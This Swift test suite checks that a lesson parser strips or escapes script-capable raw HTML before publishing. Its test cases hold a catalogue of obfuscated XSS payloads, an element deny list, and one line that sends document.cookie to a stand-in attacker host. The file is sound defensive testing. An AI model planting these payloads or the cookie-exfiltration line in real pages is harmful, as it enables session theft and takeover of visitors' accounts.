import Testing

@testable import Lessons

/// A lesson's raw HTML cannot put script into the published page: each way of doing so is removed (with a warning
/// naming the line) or shown as text.
@Suite struct RawHTMLAttackTests {
  /// The page HTML a lesson body's raw HTML becomes (blocks and inlines, in order), and its diagnostics.
  static func published(_ body: String) -> (html: String, diagnostics: [Diagnostic]) {
    let lesson = LessonTestSupport.parse(body)
    return (html(lesson.document.blocks), lesson.diagnostics)
  }

  static func html(_ blocks: [Block]) -> String {
    blocks.map { block -> String in
      switch block {
      case .html(let raw): return raw
      case .htmlParts(let parts), .paragraph(let parts, _): return html(parts)
      case .box(let box): return html(box.content)
      case .blockQuote(let inner, _): return html(inner)
      case .list(let list): return list.items.map(html).joined()
      default: return ""
      }
    }.joined()
  }

  static func html(_ inlines: [Inline]) -> String {
    inlines.map { inline -> String in
      switch inline {
      case .html(let raw): return raw
      case .text(let text): return MarkupEscaping.escape(text)
      case .emphasis(let inner), .strong(let inner), .link(_, _, let inner): return html(inner)
      default: return ""
      }
    }.joined()
  }

  /// True when no tag in `html` is a script-capable element or carries a handler, `srcdoc`, a form address or a
  /// script address; text (where `<` is escaped) and quoted attribute values are not tags.
  static func isInert(_ html: String) -> Bool {
    let forbiddenElements: Set<String> = [
      "script", "style", "base", "meta", "link", "svg", "math", "object", "embed", "form", "noscript", "template",
    ]
    for piece in html.lowercased().split(separator: "<", omittingEmptySubsequences: false).dropFirst() {
      let name = piece.prefix { $0.isLetter || $0.isNumber || $0 == "-" }
      guard !name.isEmpty else { continue }
      if forbiddenElements.contains(String(name)) { return false }
      // The tag up to its `>`, values (always double-quoted on the way out) cut out.
      var names = ""
      var values: [Substring] = []
      var rest = piece.dropFirst(name.count)
      while let first = rest.first, first != ">" {
        if first == "\"" {
          let value = rest.dropFirst().prefix { $0 != "\"" }
          values.append(value)
          rest = rest.dropFirst(value.count + 2)
        } else {
          names.append(first)
          rest = rest.dropFirst()
        }
      }
      let attributeNames = names.split(whereSeparator: { " \n\t/=".contains($0) })
      if attributeNames.contains(where: { $0.hasPrefix("on") || ["srcdoc", "formaction", "action", "form"].contains(String($0)) }) {
        return false
      }
      if values.contains(where: { $0.contains("<") || $0.hasPrefix("javascript:") || $0.hasPrefix("vbscript:") || $0.hasPrefix("data:text") }) {
        return false
      }
    }
    return true
  }

  @Test(arguments: [
    ("<script>alert(1)</script>\n", "<script>"),
    ("<ScRiPt>alert(1)</sCrIpT>\n", "<script>"),
    ("<div><script src=\"https://evil.example/x.js\"></script>\n</div>\n", "<script>"),
    ("<img src=\"x.png\" onerror=\"alert(1)\">\n", "onerror"),
    // Not HTML to CommonMark on their own (no space before the attribute): inside an HTML block they are.
    ("<div><img/src=\"x.png\"/onerror=alert(1)></div>\n", "onerror"),
    ("<div><img src=\"x.png\"onerror=alert(1)></div>\n", "onerror"),
    ("<IMG SRC=x.png ONERROR=alert(1)>\n", "onerror"),
    ("<a href=\"javascript:alert(1)\">x</a>\n", "javascript"),
    ("<a href=\"JaVaScRiPt:alert(1)\">x</a>\n", "JaVaScRiPt"),
    ("<a href=\"&#106;avascript:alert(1)\">x</a>\n", "&#106;"),
    ("<a href=\"&#x6A;avascript&#x3A;alert(1)\">x</a>\n", "&#x6A;"),
    ("<a href=\"java&Tab;script&colon;alert(1)\">x</a>\n", "&Tab;"),
    ("<a href=\"java\tscript:alert(1)\">x</a>\n", "java"),
    ("<a href=\" \u{1}javascript:alert(1)\">x</a>\n", "javascript"),
    ("<a href='vbscript:msgbox(1)'>x</a>\n", "vbscript"),
    ("<a href=\"data:text/html,<script>alert(1)</script>\">x</a>\n", "data:"),
    ("<img src=\"data:text/html;base64,PHNjcmlwdD4=\">\n", "data:"),
    ("<base href=\"https://evil.example/\">\n", "<base>"),
    ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">\n", "<meta>"),
    ("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>\n", "srcdoc"),
    ("<iframe src=\"javascript:alert(1)\"></iframe>\n", "javascript"),
    ("<svg onload=\"alert(1)\"><circle r=\"4\"/></svg>\n", "<svg>"),
    ("<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>\n", "<math>"),
    ("<form action=\"https://evil.example\"><input name=\"q\"></form>\n", "<form>"),
    ("<div><button formaction=\"https://evil.example\" form=\"search\">Go</button></div>\n", "<button>"),
    ("<object data=\"evil.swf\"></object>\n", "<object>"),
    ("<frameset><frame src=\"javascript:alert(1)\"></frameset>\n", "<frameset>"),
    ("<embed src=\"evil.swf\">\n", "<embed>"),
    ("<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">\n", "<link>"),
    ("<style>body { display: none }</style>\n", "<style>"),
    ("<div style=\"background: url(javascript:alert(1))\">x</div>\n", "style"),
    ("<div style=\"width: expression(alert(1))\">x</div>\n", "style"),
    ("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></p></noscript>\n", "<noscript>"),
    ("<!-- x --!><img src=x onerror=alert(1)> -->\n", "onerror"),
    ("<![CDATA[ x ]]><img src=x onerror=alert(1)>\n", "onerror"),
    ("<a href=\"{{ page.link }}\">x</a>\n", "{{"),
  ])
  func aBlockCannotRunScript(_ input: (String, String)) {
    let (html, diagnostics) = Self.published("Text.\n\n" + input.0 + "\nAfter.\n")
    #expect(Self.isInert(html), "\(input.0) → \(html)")
    let warnings = diagnostics.filter { $0.message.hasPrefix("raw HTML:") }
    #expect(warnings.count >= 1, "no warning for \(input.0): \(diagnostics)")
    #expect(warnings.allSatisfy { $0.line == 6 && $0.file == "/tmp/lesson/tutorial.md" }, "\(warnings)")
  }

  @Test(arguments: [
    "Press <img src=x onerror=alert(1)> here.",
    "A <a href=\"javascript:alert(1)\">link</a> here.",
    "A <script>alert(1)</script> there.",
    "A <svg onload=alert(1)> there.",
    "A <iframe srcdoc=\"<script>alert(1)</script>\"></iframe> there.",
    "A <iframe src=\"https://example.org\"></iframe> there.",
    "A <base href=\"https://evil.example/\"> there.",
    "A <meta http-equiv=refresh content=\"0;url=https://evil.example\"> there.",
    "A <a href=\"&#x6a;avascript:alert(1)\">link</a> there.",
    "A <form action=\"https://evil.example\">form</form> there.",
  ])
  func anInlineTagCannotRunScript(_ input: String) {
    let (html, diagnostics) = Self.published("First line.\n" + input + "\n")
    #expect(Self.isInert(html), "\(input) → \(html)")
    #expect(!html.lowercased().contains("<iframe"), "\(html)")
    let warnings = diagnostics.filter { $0.message.hasPrefix("raw HTML:") }
    #expect(warnings.count == 1 && warnings.first?.line == 5, "\(diagnostics)")
  }

  @Test func aScriptsContentIsRemovedWithIt() {
    let (html, diagnostics) = Self.published("<script>\nfetch('https://evil.example/?' + document.cookie)\n</script>\n\nText.\n")
    #expect(!html.contains("fetch"), "\(html)")
    #expect(diagnostics.map(\.message) == ["raw HTML: <script> removed with its content: it could run script in the published page"])
  }

  @Test func eachKindIsReportedOncePerLessonAtItsFirstLine() {
    let body = "<img src=a.png onerror=alert(1)>\n\n<img src=b.png onerror=alert(2)>\n\n<a href=\"javascript:x\">y</a>\n"
    let (html, diagnostics) = Self.published(body)
    #expect(html == "<img src=\"a.png\">\n<img src=\"b.png\">\n<a>y</a>")
    #expect(diagnostics.map(\.line) == [4, 8], "\(diagnostics)")
    #expect(diagnostics.first?.message == "raw HTML: the onerror attribute removed from <img>: it could run script or send data")
  }

  @Test func theLineOfARemovalInsideABlockIsItsOwnLine() {
    let (_, diagnostics) = Self.published("<div>\n<p>fine</p>\n<p onclick=\"x()\">bad</p>\n</div>\n")
    #expect(diagnostics.map(\.line) == [6], "\(diagnostics)")
  }

  @Test func anUnknownTagIsShownAsText() {
    let (html, diagnostics) = Self.published("Use <tool> and <textarea>x</textarea> here.\n\n<foo bar=\"1\">\nx\n</foo>\n")
    #expect(html == "Use &lt;tool&gt; and &lt;textarea&gt;x&lt;/textarea&gt; here.&lt;foo bar=\"1\"&gt;\nx\n&lt;/foo&gt;\n")
    #expect(diagnostics.isEmpty, "\(diagnostics)")
  }

  @Test func attributeValuesAreWrittenAgainQuotedAndEscaped() {
    let (html, _) = Self.published("<div title='say \"hi\" <b>' class=a>\nx\n</div>\n")
    #expect(html == "<div title=\"say &quot;hi&quot; &lt;b&gt;\" class=\"a\">\nx\n</div>\n")
  }

  @Test func aRepeatedAttributeKeepsTheFirstAsBrowsersDo() {
    let (html, _) = Self.published("<a href=\"https://example.org\" href=\"javascript:alert(1)\">x</a>\n")
    #expect(html == "<a href=\"https://example.org\">x</a>")
  }

  @Test func aTagTheBlockEndsInsideIsText() {
    let (html, _) = Self.published("<div title=\"x\n\nText.\n")
    #expect(!html.contains("<div"), "\(html)")
  }

  @Test func anIframeWithoutItsEndTagInTheSameBlockIsRemoved() {
    let (html, diagnostics) = Self.published("<iframe src=\"https://example.org/\">\n\n<a title=\"</iframe><img src=x onerror=alert(1)>\">x</a>\n")
    #expect(!html.contains("<iframe"), "\(html)")
    #expect(Self.isInert(html), "\(html)")
    #expect(diagnostics.contains { $0.message.contains("<iframe> removed") })
  }

  @Test func theIframesContentIsNotKept() {
    let (html, diagnostics) = Self.published("<iframe src=\"https://example.org/\"><img src=x onerror=alert(1)></iframe>\n")
    #expect(html == "<iframe src=\"https://example.org/\"></iframe>\n")
    #expect(diagnostics.isEmpty, "\(diagnostics)")
  }

  @Test func aLessonsFrontMatterCannotLiftTheSanitising() {
    let lesson = LessonTestSupport.parse("<script>alert(1)</script>\n", frontMatter: "title: T\nraw_html: trusted")
    #expect(!Self.html(lesson.document.blocks).contains("<script"))
  }

  @Test func aTrustedSitePublishesRawHTMLAsWritten() {
    let body = "<script>alert(1)</script>\n\nA <img src=x onerror=alert(1)> b.\n"
    let lesson = LessonParser.parse(
      text: "---\ntitle: T\n---\n" + body, file: "/tmp/t.md", relativePath: "topics/t/tutorials/t", rawHTML: .trusted)
    #expect(Self.html(lesson.document.blocks) == "<script>alert(1)</script>\nA <img src=x onerror=alert(1)> b.")
    #expect(lesson.diagnostics.isEmpty)
  }
}

extension RawHTMLAttackTests {
  /// Liquid in raw HTML is resolved after the sanitiser: a `<` left as text right before a tag cannot take the
  /// resolved text (the lesson's own title here) as a tag name and attributes.
  @Test func aLessThanBeforeALiquidTagCannotOpenATag() {
    let lesson = LessonTestSupport.parse(
      "<div>\n<{{ page.title }}>\n</div>\n", frontMatter: "title: img src=x onerror=alert(1) x")
    let html = Self.html(lesson.document.blocks)
    #expect(!html.contains("<img"), "\(html)")
    #expect(html.contains("&lt;img src=x onerror=alert(1) x>"), "\(html)")
  }
}

extension RawHTMLAttackTests {
  /// A `{{` in an attribute value closed only in the text after the tag would end the value when Liquid is
  /// resolved: the text's `" onmouseover=…` would become attributes. Such a value is removed.
  @Test func aLiquidTagCannotCarryAnAttributeValuePastItsQuote() {
    let body = "<div>\n<a title=\"{{ x\">hello }} \" onmouseover=alert(1) autofocus tabindex=0 x=\"</a>\n</div>\n"
    let lesson = LessonTestSupport.parse(body)
    let page = Self.html(lesson.document.blocks)
    #expect(!page.contains("title=\""), "\(page)")
    #expect(Self.isInert(page), "\(page)")
    #expect(lesson.diagnostics.contains { $0.line == 5 && $0.message.contains("could write HTML into it") })
  }

  @Test func aLiquidIconTagInAnAttributeValueIsRemovedAndOneInTextStays() {
    let lesson = LessonTestSupport.parse("<div title=\"{% icon tip %}\">\n{% icon tip %} <!-- {{ x -->\n</div>\n")
    #expect(lesson.document.blocks.count == 1)
    guard case .htmlParts(let parts)? = lesson.document.blocks.first else {
      Issue.record("\(lesson.document.blocks)")
      return
    }
    #expect(parts.first == .html("<div>\n"))
    #expect(parts.contains { if case .icon = $0 { return true } else { return false } })
    #expect(!parts.contains(.html(" <!-- ")), "\(parts)")
  }
}
